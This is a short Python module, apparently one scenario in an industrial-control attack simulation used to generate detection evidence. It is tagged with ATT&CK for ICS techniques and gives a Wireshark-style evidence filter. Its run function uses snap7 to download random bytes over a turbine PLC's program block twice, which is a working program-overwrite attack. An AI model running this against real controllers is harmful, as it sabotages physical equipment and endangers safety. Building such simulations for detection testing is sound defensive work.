"""A block of the turbine's program is overwritten."""

from __future__ import annotations

from snap7.client import Client

from ..devices.s7_plc import PROGRAM
from ..node import Node

TITLE = "S7 block downloaded to the turbine PLC from the engineering workstation"
TECHNIQUES = ("T0843", "T0889", "T0821")
ORIGIN = "ews"
ENTITIES = ("ews", "plc-turbine")
EVIDENCE = "s7comm.param.func == 0x1b && ip.src == 10.20.3.20"

BLOCK_SIZE = 480


def run(node: Node) -> None:
    """Request-download, the fragments the PLC asks for, download-ended; twice."""
    client = Client()
    client.connect(node.peer("plc-turbine"), 0, 2)
    for _ in range(2):
        client.download(bytearray(node.rng.randbytes(BLOCK_SIZE)), PROGRAM)
        node.pause(0.7)
    client.disconnect()
